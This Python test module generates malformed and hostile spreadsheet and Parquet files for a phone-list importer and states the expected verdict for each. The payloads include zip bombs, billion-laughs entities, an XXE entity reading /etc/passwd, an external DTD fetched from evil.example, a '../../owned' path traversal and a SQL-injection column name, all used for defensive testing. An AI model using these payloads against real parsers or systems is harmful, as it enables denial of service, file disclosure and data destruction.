"""Workbooks and Parquet files that unpack to gigabytes, hide rows, or are something else."""

import io
import os
import struct
import zipfile
from collections.abc import Callable, Mapping
from functools import partial
from pathlib import Path
from typing import Any

from tests.hostile.case import Case, Verdict
from tests.hostile.lists import read_both
from tests.hostile.text_tables_cases import ANA, BEN
from tests.rows.conftest import NOW

FAMILY = "workbooks"

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "</Types>"
)
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ROOT = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_RELATION}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def text(place: str, value: str, kind: str = "") -> str:
    """Return one cell of text, or of another kind."""
    if kind:
        return f'<c r="{place}" t="{kind}"><v>{value}</v></c>'
    return f'<c r="{place}" t="inlineStr"><is><t>{value}</t></is></c>'


def number(place: str, value: object, style: int = 0) -> str:
    return f'<c r="{place}" s="{style}"><v>{value}</v></c>'


def row(at: int, *cells: str) -> str:
    return f'<row r="{at}">{"".join(cells)}</row>'


HEADING = row(1, text("A1", "phone"), text("B1", "first_name"))
PEOPLE = row(2, text("A2", ANA), text("B2", "Ana")) + row(3, text("A3", BEN), text("B3", "Ben"))


def sheet(rows: str = HEADING + PEOPLE, *, before: str = "", after: str = "") -> str:
    return f'<?xml version="1.0"?>{before}<worksheet xmlns="{_MAIN}"><sheetData>{rows}</sheetData>{after}</worksheet>'


def parts(content: str = "", *, sheets: Mapping[str, str] | None = None, state: str = "") -> dict[str, Any]:
    """Return the files of a workbook by their names in the archive."""
    found = sheets or {"People": content or sheet()}
    listed = "".join(
        f'<sheet name="{name}" sheetId="{n}" r:id="rId{n}"{state if n == 1 else ""}/>'
        for n, name in enumerate(found, 1)
    )
    related = "".join(
        f'<Relationship Id="rId{n}" Type="{_RELATION}/worksheet" Target="worksheets/sheet{n}.xml"/>'
        for n in range(1, len(found) + 1)
    )
    styles = (
        f'<styleSheet xmlns="{_MAIN}"><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
    )
    related += f'<Relationship Id="rIdS" Type="{_RELATION}/styles" Target="styles.xml"/>'
    related += f'<Relationship Id="rIdT" Type="{_RELATION}/sharedStrings" Target="sharedStrings.xml"/>'
    return {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _ROOT,
        "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_RELATION}"><sheets>{listed}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": _ROOT.partition("<Relationship ")[0] + related + "</Relationships>",
        "xl/styles.xml": styles,
        **{f"xl/worksheets/sheet{n}.xml": made for n, made in enumerate(found.values(), 1)},
    }


def archive(files: Mapping[str, Any], *more: tuple[str, str | bytes]) -> bytes:
    """Return a zip archive; ``more`` may give a name twice."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as packed:
        for name, content in (*files.items(), *more):
            packed.writestr(name, content)
    return target.getvalue()


def book(rows: str = HEADING + PEOPLE, **more: Any) -> bytes:
    return archive(parts(sheet(rows, **more)))


def first(cell: str) -> bytes:
    """Return a workbook whose first person has another cell for a phone."""
    return book(HEADING + PEOPLE.replace(text("A2", ANA), cell))


def _zeros(megabytes: int) -> bytes:
    return b" " * (megabytes * 1_000_000)


def _ratio_bomb() -> bytes:
    return archive(parts(), ("xl/media/image1.png", _zeros(60)))


def _overlapping() -> bytes:
    """A thousand names for one file of a megabyte: small, and without a telling ratio."""
    raw = os.urandom(20_000) + bytes(1_000_000)
    packed = archive(parts(), ("xl/media/a.bin", raw))
    with zipfile.ZipFile(io.BytesIO(packed)) as opened:
        central = packed[opened.start_dir : packed.rindex(b"PK\x05\x06")]
        count = len(opened.infolist())
    entry = central[central.rindex(b"PK\x01\x02") :]
    many = central + entry * 1_000
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count + 1_000, count + 1_000, len(many), opened.start_dir, 0)
    return packed[: opened.start_dir] + many + end


def _lying() -> bytes:
    """An archive whose directory states a hundredth of what a sheet unpacks to."""
    content = sheet(HEADING + PEOPLE + "<!--" + " " * 60_000_000 + "-->").encode()
    packed = bytearray(archive({**parts(), "xl/worksheets/sheet1.xml": content}))
    found = struct.pack("<I", len(content))
    while (at := packed.find(found)) >= 0:
        packed[at : at + 4] = struct.pack("<I", len(content) // 100)
    return bytes(packed)


def _many_members() -> bytes:
    return archive(parts(), *((f"xl/media/{n}", "") for n in range(30_000)))


def _encrypted() -> bytes:
    packed = bytearray(archive(parts()))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := packed.find(mark, at + 1)) >= 0:
            packed[at + offset] |= 1
    return bytes(packed)


_ENTITIES = "<!DOCTYPE x [<!ENTITY a 'lol'>" + "".join(
    f"<!ENTITY {new} '{f'&{old};' * 10}'>" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)

_BOTH = {"numbers": (ANA, BEN), "rows": 2}
_TWO = {"rows": 2}
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_096)
_SHARED = f'<sst xmlns="{_MAIN}"><si><r><t>{ANA[:6]}</t></r><r><t>{ANA[6:]}</t></r></si></sst>'

Made = tuple[Verdict, Verdict, Callable[[], bytes], Mapping[str, Any]]

_WORKBOOKS: dict[str, Made] = {
    "sixty megabytes of blanks in sixty kilobytes": ("refused", "held", _ratio_bomb, {}),
    "a thousand names for one packed megabyte": ("refused", "held", _overlapping, {}),
    "a directory that states a hundredth of the size": ("refused", "held", _lying, {}),
    "thirty thousand empty files": ("refused", "held", _many_members, {}),
    "the first and the last cell of a sheet": (
        "refused",
        "held",
        lambda: book(HEADING + PEOPLE + row(1_048_576, text("XFD1048576", "x"))),
        {},
    ),
    "a cell in a column that no sheet has": (
        "refused",
        "held",
        lambda: book(HEADING + PEOPLE + row(4, text("ZZZZZZZ4", "x"))),
        {},
    ),
    "a million empty rows": ("refused", "held", lambda: book(HEADING + PEOPLE + "<row/>" * 1_048_574), {}),
    "entities that multiply": (
        "refused",
        "held",
        lambda: book(HEADING + row(2, text("A2", "&i;")), before=_ENTITIES + "]>"),
        {},
    ),
    "an entity that reads a file": (
        "refused",
        "held",
        lambda: book(
            HEADING + row(2, text("A2", "&x;")), before="<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
        ),
        {},
    ),
    "an entity that calls home": (
        "refused",
        "held",
        lambda: book(before="<!DOCTYPE x SYSTEM 'http://evil.example/x.dtd'>"),
        {},
    ),
    "a link to another workbook": (
        "harmless",
        "harmless",
        lambda: archive(parts(), ("xl/externalLinks/externalLink1.xml", "<externalLink/>")),
        _BOTH,
    ),
    "a macro": ("harmless", "harmless", lambda: archive(parts(), ("xl/vbaProject.bin", _OLE)), _BOTH),
    "a workbook with a password": ("refused", "held", lambda: _OLE, {}),
    "an archive with a password": ("refused", "held", _encrypted, {}),
    "an archive cut in half": ("refused", "held", lambda: book()[: len(book()) // 2], {}),
    "an archive with a file beneath the parent folder": (
        "harmless",
        "harmless",
        lambda: archive(parts(), ("../../owned", "x")),
        _BOTH,
    ),
    "one sheet twice in the archive": (
        "refused",
        "held",
        lambda: archive(parts(), ("xl/worksheets/sheet1.xml", sheet(HEADING + row(2, text("A2", ANA))))),
        {},
    ),
    "one sheet twice, in another case": (
        "refused",
        "held",
        lambda: archive(parts(), ("xl/worksheets/SHEET1.xml", sheet(HEADING + row(2, text("A2", ANA))))),
        {},
    ),
    "people on a hidden sheet alone": (
        "harmless",
        "held",
        lambda: archive(parts(sheet(), state=' state="hidden"')),
        {},
    ),
    "people on two sheets": (
        "refused",
        "held",
        lambda: archive(parts(sheets={"A": sheet(), "B": sheet()})),
        {},
    ),
    "people to the right of the last heading": (
        "quarantined",
        "held",
        lambda: book(HEADING + PEOPLE.replace("</row>", text("D2", "+573009998877") + "</row>", 1)),
        _TWO,
    ),
    "a heading merged over two columns": (
        "refused",
        "held",
        lambda: book(
            row(1, text("A1", "phone"), text("C1", "first_name")) + PEOPLE,
            after='<mergeCells><mergeCell ref="A1:B1"/></mergeCells>',
        ),
        {},
    ),
    "a row stated twice": (
        "refused",
        "held",
        lambda: book(HEADING + PEOPLE + row(2, text("A2", "+573009998877"))),
        {},
    ),
    "a cell stated twice": (
        "refused",
        "held",
        lambda: book(HEADING + row(2, text("A2", ANA), text("A2", BEN))),
        {},
    ),
    "a formula with the value that it had": (
        "harmless",
        "harmless",
        lambda: first(f'<c r="A2" t="str"><f>HYPERLINK("http://evil.example")</f><v>{ANA}</v></c>'),
        _BOTH,
    ),
    "a formula whose value was not kept": ("quarantined", "held", lambda: first('<c r="A2"><f>B2</f></c>'), _TWO),
    "a number that kept all digits": ("harmless", "harmless", lambda: first(number("A2", ANA[1:])), _BOTH),
    "a number that was rounded": ("quarantined", "held", lambda: first(number("A2", "5.7300123456789012E+17")), _TWO),
    "a phone that became a date": ("quarantined", "held", lambda: first(number("A2", 45_000, style=1)), _TWO),
    "an error in place of a phone": ("quarantined", "held", lambda: first(text("A2", "#N/A", "e")), _TWO),
    "a phone that became TRUE": ("quarantined", "held", lambda: first(text("A2", "1", "b")), _TWO),
    "a phone in two runs of letters": (
        "harmless",
        "harmless",
        lambda: archive(
            {
                **parts(sheet(HEADING + PEOPLE.replace(text("A2", ANA), text("A2", "0", "s")))),
                "xl/sharedStrings.xml": _SHARED,
            }
        ),
        _BOTH,
    ),
    "a shared text that is not there": ("refused", "held", lambda: first(text("A2", "99", "s")), {}),
    "a cell longer than a spreadsheet allows": ("quarantined", "held", lambda: first(text("A2", "3" * 131_073)), _TWO),
    "a list of text by the name of a workbook": ("refused", "held", lambda: f"phone\n{ANA}\n".encode(), {}),
    "no bytes at all": ("harmless", "held", lambda: b"", {}),
}


def _parquet(columns: Mapping[str, Any], **more: Any) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    target = io.BytesIO()
    pq.write_table(pa.table(columns), target, **more)
    return target.getvalue()


def _billion_rows() -> bytes:
    """A footer that claims 10^9 rows: the count is a zigzag varint before the list of row groups."""
    raw = _parquet({"phone": [ANA, BEN]})
    (length,) = struct.unpack("<I", raw[-8:-4])
    footer = raw[-8 - length : -8]
    assert b"\x16\x04\x19" in footer
    claimed = footer.replace(b"\x16\x04", b"\x16\x80\xa8\xd6\xb9\x07")
    return raw[: -8 - length] + claimed + struct.pack("<I", len(claimed)) + b"PAR1"


def _repeated(value: str, rows: int) -> bytes:
    import pyarrow as pa

    words = pa.DictionaryArray.from_arrays(pa.nulls(rows, pa.int32()).fill_null(0), pa.array([value]))
    return _parquet({"phone": words}, compression="zstd")


def _two_phones() -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    target = io.BytesIO()
    pq.write_table(pa.Table.from_arrays([pa.array([ANA]), pa.array([BEN])], names=["phone", "phone"]), target)
    return target.getvalue()


def _moment() -> bytes:
    import datetime as dt

    return _parquet({"phone": [dt.datetime(2026, 1, 1, tzinfo=dt.UTC)]})


def _decimals() -> bytes:
    from decimal import Decimal

    return _parquet({"phone": [Decimal(f"{ANA[1:]}.00"), Decimal(f"{BEN[1:]}.00")]})


_PARQUET: dict[str, Made] = {
    "a footer of 10^9 rows": ("refused", "held", _billion_rows, {}),
    "ten million rows of one number": ("refused", "held", lambda: _repeated(ANA, 10_000_000), {}),
    "a text of a megabyte in a hundred thousand rows": (
        "refused",
        "held",
        lambda: _repeated("3" * 1_000_000, 100_000),
        {},
    ),
    "a Parquet file cut at its end": ("refused", "held", lambda: _parquet({"phone": [ANA]})[:-6], {}),
    "a footer as long as four gigabytes": (
        "refused",
        "held",
        lambda: _parquet({"phone": [ANA]})[:-8] + b"\xff\xff\xff\xffPAR1",
        {},
    ),
    "two columns of one name": ("refused", "held", _two_phones, {}),
    "phones as bytes": ("refused", "held", lambda: _parquet({"phone": [ANA.encode()]}), {}),
    "phones as lists": ("refused", "held", lambda: _parquet({"phone": [[ANA, BEN]]}), {}),
    "phones as moments": ("quarantined", "held", _moment, {"rows": 1}),
    "phones as whole numbers": ("harmless", "harmless", lambda: _parquet({"phone": [int(ANA), int(BEN)]}), _BOTH),
    "phones as floats that are exact": (
        "harmless",
        "harmless",
        lambda: _parquet({"phone": [float(ANA), float(BEN)]}),
        _BOTH,
    ),
    "phones as floats that are not": (
        "quarantined",
        "held",
        lambda: _parquet({"phone": [float("nan"), 5.73e17]}),
        _TWO,
    ),
    "phones as decimals": ("harmless", "harmless", _decimals, _BOTH),
    "a column whose name ends a statement": (
        "harmless",
        "harmless",
        lambda: _parquet({"phone": [ANA, BEN], "x\"'); DROP TABLE source_1; --": ["a", "b"]}),
        _BOTH,
    ),
}


def cases() -> list[Case]:
    made = [(f"{name}", "xlsx", found) for name, found in _WORKBOOKS.items()]
    made += [(name, "parquet", found) for name, found in _PARQUET.items()]
    return [
        Case(FAMILY, name, verdict, partial(_attempt, ending, make, words), as_dnd=as_dnd)
        for name, ending, (verdict, as_dnd, make, words) in made
    ]


def _attempt(ending: str, make: Callable[[], bytes], words: Mapping[str, Any], folder: Path) -> str:
    path = folder / f"list.{ending}"
    path.write_bytes(make())
    os.utime(path, (NOW, NOW))
    return read_both(path, **words)
